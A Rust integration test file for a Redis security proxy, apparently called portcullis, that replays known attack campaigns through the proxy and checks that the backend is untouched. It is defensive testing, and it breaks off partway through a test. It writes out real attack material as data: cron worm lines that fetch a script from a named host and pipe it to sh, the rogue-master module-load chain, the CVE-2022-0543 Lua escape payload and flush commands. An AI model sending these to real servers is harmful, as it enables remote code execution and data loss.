//! Replays of the public attack campaigns against exposed Redis (research doc
//! `redis-attacks.md` §1 and §4), each sent THROUGH the proxy to a real redis-server, in
//! every encoding Redis's own parser accepts: RESP arrays in upper and lower case, inline
//! (plain, quote-assembled names, `\xHH`-escaped names, single-quoted names, leading
//! `\v\f\r` and tab separators), after other commands in one pipeline, queued inside MULTI,
//! in RESP3 after `HELLO 3` and after `AUTH default x`.
//!
//! After every case a direct connection confirms the backend is untouched: `ROLE` is
//! master, the whole `CONFIG GET *` is unchanged, `MODULE LIST` is empty, `ACL LIST` is
//! unchanged, a marker key still holds its value, no file appeared in Redis's `dir`, a
//! proxied session opened before the attack still works, and the "rogue master" (a second
//! redis-server started by the test on 127.0.0.1) never got a replica.

mod support;

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;

use portcullis::config::{BackendConfig, Config};
use portcullis::policy::{ProtectionConfig, ScriptPolicy};
use redis::aio::MultiplexedConnection;
use support::{resp, Proxy, Raw, RedisServer};

const MARKER_KEY: &str = "attack:marker";
const MARKER_VALUE: &str = "still-here";
const ROGUE_KEY: &str = "rogue:payload";
const EXECABORT: &[u8] = b"-EXECABORT Transaction discarded because of previous errors.\r\n";

// ---------------------------------------------------------------------------------------
// Environment: victim redis, rogue master redis, proxy, bystander, snapshots
// ---------------------------------------------------------------------------------------

struct Env {
    redis: RedisServer,
    rogue: RedisServer,
    proxy: Proxy,
    /// A proxied session opened before any attack: it must keep working.
    bystander: MultiplexedConnection,
    bystander_ops: u32,
    config: BTreeMap<String, String>,
    acl: Vec<String>,
    /// `MODULE LIST` before any attack: empty for redis-server; Valkey lists its
    /// built-in `lua` engine.
    modules: Vec<redis::Value>,
    dir: PathBuf,
    files: BTreeSet<String>,
}

fn show(b: &[u8]) -> String {
    b.escape_ascii().to_string()
}

async fn query<T: redis::FromRedisValue>(conn: &mut MultiplexedConnection, args: &[&str]) -> T {
    let mut cmd = redis::cmd(args[0]);
    for a in &args[1..] {
        cmd.arg(*a);
    }
    cmd.query_async(conn)
        .await
        .unwrap_or_else(|e| panic!("direct {args:?}: {e}"))
}

fn list_dir(dir: &PathBuf) -> BTreeSet<String> {
    std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("read redis dir {dir:?}: {e}"))
        .map(|e| {
            e.expect("dir entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect()
}

impl Env {
    async fn start() -> Env {
        let redis = RedisServer::start(&[]);
        let rogue = RedisServer::start(&[]);
        let env = Env::start_with(redis, rogue, None).await;
        assert!(env.modules.is_empty(), "redis-server starts with no module");
        env
    }

    async fn start_with(redis: RedisServer, rogue: RedisServer, config: Option<Config>) -> Env {
        let mut direct = redis.direct().await;
        let _: () = query(&mut direct, &["SET", MARKER_KEY, MARKER_VALUE]).await;
        let mut r = rogue.direct().await;
        let _: () = query(&mut r, &["SET", ROGUE_KEY, "ELF-bytes-of-exp.so"]).await;

        let proxy = match config {
            Some(c) => Proxy::start_with(c).await,
            None => Proxy::start(&[&redis]).await,
        };
        let bystander = proxy.client().await;
        let config: BTreeMap<String, String> = query(&mut direct, &["CONFIG", "GET", "*"]).await;
        let acl: Vec<String> = query(&mut direct, &["ACL", "LIST"]).await;
        let modules: Vec<redis::Value> = query(&mut direct, &["MODULE", "LIST"]).await;
        let dir = PathBuf::from(config.get("dir").expect("CONFIG GET dir"));
        let files = list_dir(&dir);
        let mut env = Env {
            redis,
            rogue,
            proxy,
            bystander,
            bystander_ops: 0,
            config,
            acl,
            modules,
            dir,
            files,
        };
        env.check("before any attack").await;
        env
    }

    fn proxy_config(redis: &RedisServer, protection: ProtectionConfig) -> Config {
        Config {
            backends: vec![BackendConfig::from_address(redis.addr())],
            protection,
            ..Config::default()
        }
    }

    /// Everything an attack could have changed, checked on direct connections.
    async fn check(&mut self, case: &str) {
        self.check_except_marker(case).await;
        let mut d = self.redis.direct().await;
        let marker: Option<String> = query(&mut d, &["GET", MARKER_KEY]).await;
        assert_eq!(
            marker.as_deref(),
            Some(MARKER_VALUE),
            "[{case}] marker key lost"
        );
    }

    async fn check_except_marker(&mut self, case: &str) {
        assert!(!self.proxy.task.is_finished(), "[{case}] proxy stopped");
        let mut d = self.redis.direct().await;
        let role: Vec<redis::Value> = query(&mut d, &["ROLE"]).await;
        let role = redis::from_redis_value::<String>(&role[0]).expect("role name");
        assert_eq!(role, "master", "[{case}] backend is no longer a master");

        let config: BTreeMap<String, String> = query(&mut d, &["CONFIG", "GET", "*"]).await;
        let changed: Vec<String> = config
            .iter()
            .filter(|(k, v)| self.config.get(*k) != Some(*v))
            .map(|(k, v)| format!("{k}: {:?} -> {v:?}", self.config.get(k)))
            .collect();
        assert!(
            changed.is_empty(),
            "[{case}] backend configuration changed: {changed:?}"
        );
        for p in ["dir", "dbfilename"] {
            let got: BTreeMap<String, String> = query(&mut d, &["CONFIG", "GET", p]).await;
            assert_eq!(got.get(p), self.config.get(p), "[{case}] CONFIG GET {p}");
        }

        let modules: Vec<redis::Value> = query(&mut d, &["MODULE", "LIST"]).await;
        assert_eq!(modules, self.modules, "[{case}] modules loaded");
        let acl: Vec<String> = query(&mut d, &["ACL", "LIST"]).await;
        assert_eq!(acl, self.acl, "[{case}] ACL users changed");
        let rogue_data: i64 = query(&mut d, &["EXISTS", ROGUE_KEY]).await;
        assert_eq!(rogue_data, 0, "[{case}] the rogue master's data arrived");

        let files = list_dir(&self.dir);
        assert_eq!(files, self.files, "[{case}] files appeared in redis dir");

        // The rogue master never saw a replica.
        let mut r = self.rogue.direct().await;
        let info: String = query(&mut r, &["INFO", "replication"]).await;
        assert!(
            info.contains("connected_slaves:0"),
            "[{case}] rogue master got a replica: {info}"
        );
        let stats: String = query(&mut r, &["INFO", "stats"]).await;
        for field in ["sync_full:0", "sync_partial_ok:0", "sync_partial_err:0"] {
            assert!(
                stats.lines().any(|l| l.trim() == field),
                "[{case}] rogue master saw a sync attempt ({field} expected)"
            );
        }
        let rogue_keys: i64 = query(&mut r, &["DBSIZE"]).await;
        assert_eq!(rogue_keys, 1, "[{case}] keys were migrated to the rogue");

        // The session opened before the attack still works.
        self.bystander_ops += 1;
        let key = format!("bystander:{}", self.bystander_ops);
        let val = format!("v{}", self.bystander_ops);
        let _: () = redis::cmd("SET")
            .arg(&key)
            .arg(&val)
            .query_async(&mut self.bystander)
            .await
            .unwrap_or_else(|e| panic!("[{case}] bystander SET failed: {e}"));
        let got: Option<String> = redis::cmd("GET")
            .arg(&key)
            .query_async(&mut self.bystander)
            .await
            .unwrap_or_else(|e| panic!("[{case}] bystander GET failed: {e}"));
        assert_eq!(got.as_deref(), Some(val.as_str()), "[{case}] bystander GET");
    }

    async fn direct_exists(&self, key: &str) -> bool {
        let mut d = self.redis.direct().await;
        let n: i64 = query(&mut d, &["EXISTS", key]).await;
        n == 1
    }
}

// ---------------------------------------------------------------------------------------
// Encodings
// ---------------------------------------------------------------------------------------

fn owned(args: &[&str]) -> Vec<Vec<u8>> {
    args.iter().map(|a| a.as_bytes().to_vec()).collect()
}

fn resp_of(args: &[Vec<u8>]) -> Vec<u8> {
    let refs: Vec<&[u8]> = args.iter().map(|a| a.as_slice()).collect();
    resp(&refs)
}

/// RESP array with the command name (and subcommand) lowercased, as redis-cli sends
/// what a worm script typed.
fn resp_lower(args: &[Vec<u8>]) -> Vec<u8> {
    let mut a = args.to_vec();
    a[0] = a[0].to_ascii_lowercase();
    if a.len() > 1 && is_container(&args[0]) {
        a[1] = a[1].to_ascii_lowercase();
    }
    resp_of(&a)
}

fn resp_upper(args: &[Vec<u8>]) -> Vec<u8> {
    let mut a = args.to_vec();
    a[0] = a[0].to_ascii_uppercase();
    if a.len() > 1 && is_container(&args[0]) {
        a[1] = a[1].to_ascii_uppercase();
    }
    resp_of(&a)
}

fn is_container(name: &[u8]) -> bool {
    [
        "config", "module", "client", "acl", "script", "function", "cluster",
    ]
    .iter()
    .any(|c| c.as_bytes().eq_ignore_ascii_case(name))
}

/// One argument for an inline line: bare when safe, else double-quoted with escapes.
fn inline_arg(a: &[u8]) -> Vec<u8> {
    let bare = !a.is_empty()
        && a.iter()
            .all(|&b| b.is_ascii_graphic() && b != b'"' && b != b'\'' && b != b'\\');
    if bare {
        return a.to_vec();
    }
    let mut out = vec![b'"'];
    for &b in a {
        match b {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            b'\n' => out.extend_from_slice(b"\\n"),
            b' '..=b'~' => out.push(b),
            _ => out.extend_from_slice(format!("\\x{b:02x}").as_bytes()),
        }
    }
    out.push(b'"');
    out
}

/// `sLaVe"OF"`: alternating case, the second half inside double quotes.
fn name_quote_assembled(name: &[u8]) -> Vec<u8> {
    let half = (name.len() / 2).max(1);
    let mut out: Vec<u8> = name[..half]
        .iter()
        .enumerate()
        .map(|(i, c)| {
            if i % 2 == 0 {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect();
    out.push(b'"');
    out.extend(name[half..].to_ascii_uppercase());
    out.push(b'"');
    out
}

/// `"\x73laveof"`: first byte hex-escaped inside double quotes.
fn name_hex_escaped(name: &[u8]) -> Vec<u8> {
    let mut out = format!("\"\\x{:02x}", name[0].to_ascii_lowercase()).into_bytes();
    out.extend(name[1..].to_ascii_lowercase());
    out.push(b'"');
    out
}

/// `'REPLICAOF'`.
fn name_single_quoted(name: &[u8]) -> Vec<u8> {
    let mut out = vec![b'\''];
    out.extend(name.to_ascii_uppercase());
    out.push(b'\'');
    out
}

/// An inline line: argv[0] (and the subcommand of a container) rendered by `name`, the
/// rest by `inline_arg`, joined by `sep`, after `lead`.
fn inline_with(
    args: &[Vec<u8>],
    lead: &[u8],
    sep: &[u8],
    name: fn(&[u8]) -> Vec<u8>,
    end: &[u8],
) -> Vec<u8> {
    let mut out = lead.to_vec();
    for (i, a) in args.iter().enumerate() {
        if i > 0 {
            out.extend_from_slice(sep);
        }
        if i == 0 || (i == 1 && is_container(&args[0]) && a.iter().all(u8::is_ascii_alphabetic)) {
            out.extend(name(a));
        } else {
            out.extend(inline_arg(a));
        }
    }
    out.extend_from_slice(end);
    out
}

fn inline_plain(args: &[Vec<u8>]) -> Vec<u8> {
    inline_with(args, b"", b" ", |n| n.to_vec(), b"\r\n")
}

/// Every single-command encoding Redis's parser accepts, each answered by exactly one
/// reply line.
fn single_encodings(args: &[Vec<u8>]) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("resp uppercase", resp_upper(args)),
        ("resp lowercase", resp_lower(args)),
        ("inline plain", inline_plain(args)),
        (
            "inline bare LF",
            inline_with(args, b"", b" ", |n| n.to_ascii_lowercase(), b"\n"),
        ),
        (
            "inline quote-assembled name",
            inline_with(args, b"", b" ", name_quote_assembled, b"\r\n"),
        ),
        (
            "inline hex-escaped name",
            inline_with(args, b"", b" ", name_hex_escaped, b"\r\n"),
        ),
        (
            "inline single-quoted name",
            inline_with(args, b"", b" ", name_single_quoted, b"\r\n"),
        ),
        (
            "inline leading \\v\\f\\r, tabs",
            inline_with(args, b"\x0b\x0c\r\t ", b"\t", |n| n.to_vec(), b"\r\n"),
        ),
        (
            "inline tabs and spaces, quoted name",
            inline_with(args, b"\t", b" \t ", name_quote_assembled, b"\t\r\n"),
        ),
    ]
}

fn is_noperm(line: &[u8]) -> bool {
    line.starts_with(b"-NOPERM ") && line.ends_with(b"\r\n")
}

/// Stop at the first refusal failure: once a command got through, the connection and the
/// backend are in an unknown state.
fn bail(name: &str, failures: &[String]) {
    assert!(
        failures.is_empty(),
        "`{name}` was not refused:\n  {}",
        failures.join("\n  ")
    );
}

async fn ping(c: &mut Raw, context: &str) {
    c.send(b"PING\r\n").await;
    let line = c.read_to_line().await;
    assert_eq!(
        show(&line),
        "+PONG\\r\\n",
        "connection out of step after {context}"
    );
}

/// Send `bytes`, read one reply line; record a failure unless it is `-NOPERM`.
async fn expect_refused(c: &mut Raw, bytes: &[u8], label: &str, failures: &mut Vec<String>) {
    c.send(bytes).await;
    let line = c.read_to_line().await;
    if !is_noperm(&line) {
        failures.push(format!(
            "{label}: sent {:?}, got {:?} (want -NOPERM)",
            show(bytes),
            show(&line)
        ));
    }
}

/// The command `args` is refused with `-NOPERM` in every encoding and context, and the
/// backend is intact afterwards.
async fn refused_everywhere(env: &mut Env, args: &[Vec<u8>]) {
    let name = args
        .iter()
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect::<Vec<_>>()
        .join(" ");
    let mut failures = Vec::new();

    // One connection, every single-command encoding in turn.
    let mut c = env.proxy.raw().await;
    for (label, bytes) in single_encodings(args) {
        expect_refused(&mut c, &bytes, label, &mut failures).await;
        bail(&name, &failures);
        ping(&mut c, &format!("{name} / {label}")).await;
    }

    // After other commands in one pipeline (RESP before, inline in the middle).
    let mut pipeline = b"PING\r\n".to_vec();
    pipeline.extend(resp(&[b"SET", b"attack:pipeline", b"1"]));
    pipeline.extend(inline_plain(args));
    pipeline.extend(b"PING\r\n");
    c.send(&pipeline).await;
    c.expect(b"+PONG\r\n+OK\r\n").await;
    let line = c.read_to_line().await;
    if !is_noperm(&line) {
        failures.push(format!("pipeline: got {:?}", show(&line)));
    }
    bail(&name, &failures);
    let line = c.read_to_line().await;
    assert_eq!(show(&line), "+PONG\\r\\n", "{name}: pipeline tail");

    // Queued inside MULTI: refused while queuing, EXEC aborts, nothing ran.
    for (label, cmd) in [
        ("MULTI resp lowercase", resp_lower(args)),
        (
            "MULTI inline quote-assembled",
            inline_with(args, b"", b" ", name_quote_assembled, b"\r\n"),
        ),
    ] {
        let mut batch = b"MULTI\r\nSET attack:multi 1\r\n".to_vec();
        batch.extend(&cmd);
        batch.extend(b"EXEC\r\n");
        c.send(&batch).await;
        c.expect(b"+OK\r\n+QUEUED\r\n").await;
        let line = c.read_to_line().await;
        if !is_noperm(&line) {
            failures.push(format!("{label}: queued command got {:?}", show(&line)));
        }
        bail(&name, &failures);
        let exec = c.read_to_line().await;
        if exec != EXECABORT {
            failures.push(format!(
                "{label}: EXEC got {:?}, want EXECABORT",
                show(&exec)
            ));
        }
        assert!(
            !env.direct_exists("attack:multi").await,
            "{name} / {label}: the aborted transaction ran"
        );
        ping(&mut c, &format!("{name} / {label}")).await;
    }
    drop(c);

    // RESP3 after HELLO 3.
    let mut c = env.proxy.raw().await;
    c.send(b"HELLO 3\r\nPING\r\n").await;
    let hello = c.read_until(b"+PONG\r\n").await;
    assert!(
        hello.starts_with(b"%"),
        "HELLO 3 answered {:?}",
        show(&hello)
    );
    expect_refused(&mut c, &resp_upper(args), "RESP3 resp", &mut failures).await;
    expect_refused(
        &mut c,
        &inline_with(args, b"", b" ", name_hex_escaped, b"\r\n"),
        "RESP3 inline hex",
        &mut failures,
    )
    .await;
    ping(&mut c, &format!("{name} / RESP3")).await;
    drop(c);

    // After AUTH default x (what scanners try first).
    let mut c = env.proxy.raw().await;
    c.send(b"AUTH default x\r\n").await;
    c.expect(b"+OK\r\n").await;
    expect_refused(&mut c, &resp_upper(args), "after AUTH resp", &mut failures).await;
    expect_refused(
        &mut c,
        &inline_with(args, b"", b" ", name_single_quoted, b"\r\n"),
        "after AUTH inline single-quoted",
        &mut failures,
    )
    .await;
    ping(&mut c, &format!("{name} / AUTH")).await;
    drop(c);

    assert!(
        failures.is_empty(),
        "`{name}` was not refused:\n  {}",
        failures.join("\n  ")
    );
    env.check(&name).await;
}

// ---------------------------------------------------------------------------------------
// (a) Rogue master + module load
// ---------------------------------------------------------------------------------------

/// The byte log of redis-rogue-server / redis-rogue-getshell (§1.1 T2), one command at a
/// time waiting for each reply, with the rogue master a redis-server on loopback.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rogue_master_module_load_chain_is_refused_byte_for_byte() {
    let mut env = Env::start().await;
    let rogue_port = env.rogue.port.to_string();
    let mut c = env.proxy.raw().await;

    // What Redis itself says to the module command (the module is not loaded).
    let mut direct = Raw::connect(env.redis.addr().parse().expect("addr")).await;
    direct.send(&resp(&[b"system.exec", b"id"])).await;
    let redis_unknown = direct.read_to_line().await;
    assert_eq!(
        show(&redis_unknown),
        show(b"-ERR unknown command 'system.exec', with args beginning with: 'id' \r\n")
    );

    let rogue_len = rogue_port.len();
    let slaveof =
        format!("*3\r\n$7\r\nSLAVEOF\r\n$9\r\n127.0.0.1\r\n${rogue_len}\r\n{rogue_port}\r\n");
    let chain: Vec<(Vec<u8>, Option<Vec<u8>>)> = vec![
        (slaveof.into_bytes(), None),
        (
            b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$6\r\nexp.so\r\n".to_vec(),
            None,
        ),
        (
            b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$8\r\n./exp.so\r\n".to_vec(),
            None,
        ),
        (
            b"*3\r\n$7\r\nSLAVEOF\r\n$2\r\nNO\r\n$3\r\nONE\r\n".to_vec(),
            None,
        ),
        (
            b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n".to_vec(),
            None,
        ),
        (
            b"*2\r\n$11\r\nsystem.exec\r\n$2\r\nid\r\n".to_vec(),
            Some(redis_unknown.clone()),
        ),
        (
            b"*3\r\n$6\r\nMODULE\r\n$6\r\nUNLOAD\r\n$6\r\nsystem\r\n".to_vec(),
            None,
        ),
    ];
    let mut failures = Vec::new();
    for (bytes, want) in &chain {
        c.send(bytes).await;
        let line = c.read_to_line().await;
        let ok = match want {
            Some(w) => &line == w,
            None => is_noperm(&line),
        };
        if !ok {
            failures.push(format!(
                "sent {:?}: got {:?}, want {}",
                show(bytes),
                show(&line),
                want.as_ref().map(|w| show(w)).unwrap_or("-NOPERM".into())
            ));
        }
        env.check(&format!("rogue chain step {}", show(bytes)))
            .await;
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    ping(&mut c, "rogue chain").await;

    // Variants: REPLICAOF, Metasploit's shell.exec and jas502n's /tmp module path.
    let variants: &[&[u8]] = &[
        b"*3\r\n$9\r\nREPLICAOF\r\n$9\r\n127.0.0.1\r\n$4\r\n8886\r\n",
        b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n",
        b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$10\r\nexp_lin.so\r\n",
        b"*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n$15\r\n/tmp/exp_lin.so\r\n",
        b"*5\r\n$6\r\nMODULE\r\n$6\r\nLOADEX\r\n$8\r\n./exp.so\r\n$4\r\nARGS\r\n$1\r\nx\r\n",
        b"*3\r\n$6\r\nMODULE\r\n$6\r\nUNLOAD\r\n$6\r\nsystem\r\n",
    ];
    for bytes in variants {
        let mut f = Vec::new();
        expect_refused(&mut c, bytes, "variant", &mut f).await;
        assert!(f.is_empty(), "{}", f.join("\n"));
    }
    // MODULE LIST is read-only introspection clients send at start (issue 12): it
    // answers as Redis does, and shows nothing was loaded.
    c.send(b"*2\r\n$6\r\nMODULE\r\n$4\r\nLIST\r\n").await;
    assert_eq!(show(&c.read_to_line().await), "*0\\r\\n", "MODULE LIST");
    c.send(&resp(&[b"shell.exec", b"id"])).await;
    let line = c.read_to_line().await;
    assert!(
        line.starts_with(b"-ERR unknown command 'shell.exec'"),
        "{:?}",
        show(&line)
    );
    env.check("rogue chain variants").await;
}

/// Every command of the chain in every encoding.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rogue_master_commands_refused_in_every_encoding() {
    let mut env = Env::start().await;
    let port = env.rogue.port.to_string();
    let cases: Vec<Vec<&str>> = vec![
        vec!["SLAVEOF", "127.0.0.1", &port],
        vec!["REPLICAOF", "127.0.0.1", &port],
        vec!["SLAVEOF", "NO", "ONE"],
        vec!["CONFIG", "SET", "dbfilename", "exp.so"],
        vec!["CONFIG", "SET", "dir", "/tmp"],
        vec!["MODULE", "LOAD", "./exp.so"],
        vec!["MODULE", "UNLOAD", "system"],
    ];
    for args in cases {
        refused_everywhere(&mut env, &owned(&args)).await;
    }
}

// ---------------------------------------------------------------------------------------
// (b) CONFIG SET dir/dbfilename + SAVE: the cron worm script
// ---------------------------------------------------------------------------------------

/// The worm script of §1.1 T3 (BlockchainOne/crack-mining `v2/rsh.php` family) as
/// redis-cli sends it: each line split like `sdssplitargs` and sent as a lowercase RESP
/// array, all in one write.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cron_worm_script_is_refused_and_writes_no_file() {
    let mut env = Env::start().await;
    const CRON1: &str = "\n*/1 * * * * curl -fsSL http://img.namunil.com/ash.php | sh\n\n";
    const CRON2: &str = "\n*/2 * * * * wget -q -O- http://img.namunil.com/ash.php | sh\n\n";
    // (argv, reply: None = -NOPERM, Some = exact)
    let script: Vec<(Vec<&str>, Option<&[u8]>)> = vec![
        (vec!["config", "set", "dbfilename", "backup.db"], None),
        (vec!["save"], None),
        (vec!["flushall"], None),
        (vec!["set", "qwERZJSG", CRON1], Some(b"+OK\r\n")),
        (vec!["set", "ftEKeh", CRON2], Some(b"+OK\r\n")),
        (vec!["config", "set", "dir", "/var/spool/cron/"], None),
        (vec!["config", "set", "dbfilename", "root"], None),
        (vec!["save"], None),
        (
            vec!["config", "set", "dir", "/var/spool/cron/crontabs"],
            None,
        ),
        (vec!["save"], None),
        (vec!["config", "set", "dir", "/etc/cron.d"], None),
        (vec!["config", "set", "dbfilename", "ntp"], None),
        (vec!["bgsave"], None),
        (
            vec!["config", "set", "stop-writes-on-bgsave-error", "no"],
            None,
        ),
        (vec!["config", "set", "rdbcompression", "no"], None),
        (vec!["config", "rewrite"], None),
        (vec!["bgrewriteaof"], None),
        (vec!["flushdb"], None),
    ];
    let mut batch = Vec::new();
    for (args, _) in &script {
        batch.extend(resp_of(&owned(args)));
    }
    let mut c = env.proxy.raw().await;
    c.send(&batch).await;
    let mut failures = Vec::new();
    for (args, want) in &script {
        let line = c.read_to_line().await;
        let ok = match want {
            Some(w) => line == *w,
            None => is_noperm(&line),
        };
        if !ok {
            failures.push(format!("{args:?}: got {:?}", show(&line)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    ping(&mut c, "worm script").await;
    // The data keys are just data (no file ever got them).
    assert!(env.direct_exists("qwERZJSG").await);
    env.check("cron worm script").await;

    // Every refused line, in every encoding.
    for (args, want) in &script {
        if want.is_none() {
            refused_everywhere(&mut env, &owned(args)).await;
        }
    }

    // The scanner's password guesses (`redis-cli -a <guess>`) get Redis's own answer.
    let mut direct = Raw::connect(env.redis.addr().parse().expect("addr")).await;
    for guess in ["redis", "root", "oracle", "password", "p@aaw0rd", "abc123!"] {
        let bytes = resp(&[b"auth", guess.as_bytes()]);
        direct.send(&bytes).await;
        let want = direct.read_to_line().await;
        c.send(&bytes).await;
        let got = c.read_to_line().await;
        assert_eq!(show(&got), show(&want), "auth {guess}");
    }
    // The probe pnscan sends: INFO stays allowed (clients need it).
    c.send(b"*1\r\n$4\r\ninfo\r\n").await;
    let header = c.read_to_line().await;
    assert!(header.starts_with(b"$"), "{:?}", show(&header));
    env.check("worm auth guesses").await;
}

// ---------------------------------------------------------------------------------------
// (c) Lua
// ---------------------------------------------------------------------------------------

const CVE_2022_0543: &[u8] = b"eval 'local io_l = package.loadlib(\"/usr/lib/x86_64-linux-gnu/liblua5.1.so.0\", \"luaopen_io\"); local io = io_l(); local f = io.popen(\"id\", \"r\"); local res = f:read(\"*a\"); f:close(); return res' 0\n";

/// Metasploit's `redis_debian_sandbox_escape` payload, inline, single-quoted, bare `\n`.
/// EVAL is allowed by default, so the script reaches Redis; Redis (not built with the
/// Debian `package` exposure, or patched) answers an error, the same bytes as a direct
/// connection gets, and nothing changes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lua_cve_2022_0543_payload_gets_redis_error_and_changes_nothing() {
    let mut env = Env::start().await;
    let mut direct = Raw::connect(env.redis.addr().parse().expect("addr")).await;
    direct.send(CVE_2022_0543).await;
    let want = direct.read_to_line().await;
    assert!(
        want.starts_with(b"-ERR ") && want.windows(7).any(|w| w == b"package"),
        "redis itself answered {:?}",
        show(&want)
    );

    let mut c = env.proxy.raw().await;
    c.send(CVE_2022_0543).await;
    let got = c.read_to_line().await;
    assert_eq!(show(&got), show(&want), "proxied CVE-2022-0543 payload");
    ping(&mut c, "CVE-2022-0543").await;

    // The same payload as a RESP array (P2PInfect's variant) and with EVAL_RO.
    let script = &CVE_2022_0543[6..CVE_2022_0543.len() - 4];
    for name in [&b"EVAL"[..], b"eval_ro"] {
        let bytes = resp(&[name, script, b"0"]);
        c.send(&bytes).await;
        let got = c.read_to_line().await;
        assert!(got.starts_with(b"-ERR "), "{:?}", show(&got));
    }
    env.check("CVE-2022-0543").await;
}

/// Control-plane commands cannot be reached through EVAL: Redis refuses them itself
/// (`no-script`), and the proxy passes that error through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lua_cannot_reach_the_control_plane() {
    let mut env = Env::start().await;
    let port = env.rogue.port.to_string();
    let scripts = [
        "return redis.call('config','set','dir','/tmp')".to_string(),
        "return redis.call('config','set','dbfilename','root')".to_string(),
        format!("return redis.call('slaveof','127.0.0.1','{port}')"),
        format!("return redis.call('replicaof','127.0.0.1','{port}')"),
        "return redis.call('module','load','./exp.so')".to_string(),
        "return redis.call('save')".to_string(),
        "return redis.call('acl','setuser','x','on','>p','+@all')".to_string(),
        "return redis.call('config','set','protected-mode','no')".to_string(),
        "return redis.pcall('debug','segfault')".to_string(),
    ];
    let mut c = env.proxy.raw().await;
    for s in &scripts {
        for bytes in [
            resp(&[b"EVAL", s.as_bytes(), b"0"]),
            inline_with(
                &owned(&["eval", s, "0"]),
                b"",
                b" ",
                |n| n.to_vec(),
                b"\r\n",
            ),
        ] {
            c.send(&bytes).await;
            let line = c.read_to_line().await;
            assert!(
                line.starts_with(b"-"),
                "EVAL {s:?} answered {:?}",
                show(&line)
            );
        }
        env.check(&format!("EVAL {s}")).await;
    }
    // The exact text for the brief's example matches Redis's own.
    let bytes = b"EVAL \"return redis.call('config','set','dir','/tmp')\" 0\r\n";
    let mut direct = Raw::connect(env.redis.addr().parse().expect("addr")).await;
    direct.send(bytes).await;
    let want = direct.read_to_line().await;
    assert!(
        want.starts_with(b"-ERR This Redis command is not allowed from script"),
        "{:?}",
        show(&want)
    );
    c.send(bytes).await;
    assert_eq!(show(&c.read_to_line().await), show(&want));
    env.check("EVAL config set dir").await;
}

/// Known gap (README: defense in depth — run the backend user without @dangerous):
/// FLUSHALL is not `no-script`, so with the default `protection.scripts = allow` a script
/// can call it and Redis runs it. `scripts = deny` refuses EVAL itself; `readonly` leaves
/// only EVAL_RO, whose scripts Redis refuses to let write.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn lua_flushall_is_a_documented_gap_closed_by_scripts_policy() {
    const FLUSH: &[u8] = b"EVAL \"return redis.call('flushall')\" 0\r\n";

    // Default policy: Redis runs the script and the dataset is gone.
    {
        let mut env = Env::start().await;
        let mut c = env.proxy.raw().await;
        c.send(FLUSH).await;
        assert_eq!(
            show(&c.read_to_line().await),
            "+OK\\r\\n",
            "default scripts=allow: Redis runs FLUSHALL from a script (documented gap)"
        );
        assert!(
            !env.direct_exists(MARKER_KEY).await,
            "the gap is real: the marker was flushed"
        );
        // Everything else is still intact.
        env.check_except_marker("EVAL flushall (gap)").await;
    }

    // scripts = deny: EVAL, EVALSHA, FCALL and their _RO forms are refused.
    {
        let redis = RedisServer::start(&[]);
        let rogue = RedisServer::start(&[]);
        let cfg = Env::proxy_config(
            &redis,
            ProtectionConfig {
                scripts: ScriptPolicy::Deny,
                ..ProtectionConfig::default()
            },
        );
        let mut env = Env::start_with(redis, rogue, Some(cfg)).await;
        let mut c = env.proxy.raw().await;
        let mut failures = Vec::new();
        expect_refused(&mut c, FLUSH, "scripts=deny EVAL", &mut failures).await;
        for args in [
            vec!["EVAL_RO", "return redis.call('flushall')", "0"],
            vec!["EVALSHA", "0123456789012345678901234567890123456789", "0"],
            vec!["SCRIPT", "LOAD", "return redis.call('flushall')"],
            vec!["FCALL", "f", "0"],
        ] {
            expect_refused(
                &mut c,
                &resp_of(&owned(&args)),
                &format!("scripts=deny {args:?}"),
                &mut failures,
            )
            .await;
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        refused_everywhere(
            &mut env,
            &owned(&["EVAL", "return redis.call('flushall')", "0"]),
        )
        .await;
        env.check("scripts=deny").await;
    }

    // scripts = readonly: EVAL refused; EVAL_RO reaches Redis, which refuses the write.
    {
        let redis = RedisServer::start(&[]);
        let rogue = RedisServer::start(&[]);
        let cfg = Env::proxy_config(
            &redis,
            ProtectionConfig {
                scripts: ScriptPolicy::Readonly,
                ..ProtectionConfig::default()
            },
        );
        let mut env = Env::start_with(redis, rogue, Some(cfg)).await;
        let mut c = env.proxy.raw().await;
        let mut failures = Vec::new();
        expect_refused(&mut c, FLUSH, "scripts=readonly EVAL", &mut failures).await;
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        c.send(&resp(&[b"EVAL_RO", b"return redis.call('flushall')", b"0"]))
            .await;
        let line = c.read_to_line().await;
        assert!(
            line.starts_with(b"-ERR "),
            "EVAL_RO flushall: {:?}",
            show(&line)
        );
        env.check("scripts=readonly").await;
    }
}

// ---------------------------------------------------------------------------------------
// (d) Weakening the server
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn weakening_config_sets_are_refused_in_every_encoding() {
    let mut env = Env::start().await;
    for args in [
        &["CONFIG", "SET", "protected-mode", "no"][..],
        &["CONFIG", "SET", "replica-read-only", "no"],
